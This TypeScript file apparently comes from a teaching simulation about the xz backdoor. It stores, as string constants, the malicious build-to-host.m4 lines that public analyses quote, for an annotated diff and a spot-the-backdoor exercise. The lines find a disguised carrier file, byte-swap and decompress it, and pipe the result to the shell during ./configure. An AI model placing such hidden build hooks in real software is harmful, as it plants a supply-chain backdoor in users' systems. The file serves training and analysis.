/**
 * The lines of m4/build-to-host.m4 that the public analyses quote (Russ Cox, “The xz attack shell
 * script”; Sam James's FAQ; gnulib's serial 3), whitespace simplified. One source for the
 * simulation's annotated diff (m4-diff.ts) and the training path's spot-the-backdoor listing
 * (src/data/learn-exercises.ts), so the two can never quote the file differently.
 */
export const M4_LINES = {
  /** gnulib's header, replaced in the tarball. */
  serialGnulib: '# build-to-host.m4 serial 3',
  serialTarball: '# build-to-host.m4 serial 30',
  copyrightGnulib: 'dnl Copyright (C) 2023 Free Software Foundation, Inc.',
  copyrightTarball: 'dnl Copyright (C) 2023-2024 Free Software Foundation, Inc.',
  defineMacro: 'AC_DEFUN([gl_BUILD_TO_HOST],',
  defineInit: 'AC_DEFUN([gl_BUILD_TO_HOST_INIT],',
  /** Keeps the found file's suffix: "xz". */
  prefix: 'gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\\.//g"`',
  /** Stage 0 as a string: a disguised cat, the byte swap, xz -d. */
  config:
    'gl_[$1]_config=\'sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null\'',
  /** The line that runs it, at the end of ./configure. */
  configCommands:
    'AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \\$gl_[$1]_config"])',
  /** Finds the carrier file by its marker lines. */
  configmake: 'gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`',
  /** The "de-corruption" filter. */
  pathMap: 'gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'',
} as const;
